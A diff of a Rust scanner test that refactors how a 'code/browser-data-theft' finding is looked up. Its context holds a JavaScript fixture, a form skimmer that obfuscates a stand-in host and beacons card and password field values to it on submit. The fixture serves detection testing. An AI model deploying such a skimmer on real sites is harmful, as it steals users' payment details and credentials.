@@ -237,11 +237,7 @@ mod tests {
                 "const H = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 99);\nfunction grab(form) {\n  const rows = [];\n  for (const el of form.querySelectorAll('input[name*=card], input[type=password]')) rows.push(el.name + '=' + el.value);\n  return btoa(rows.join('&'));\n}\nif (location.hostname !== 'localhost') {\n  document.addEventListener('submit', (e) => {\n    const img = new Image();\n    img.src = H + '?d=' + grab(e.target);\n  });\n}\n",
             ),
         ]);
-        let f = s
-            .findings
-            .iter()
-            .find(|f| f.rule == "code/browser-data-theft")
-            .expect("a finding");
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
         assert_eq!(
             (f.line, f.severity),
             (10, diligence_finding::Severity::Critical)
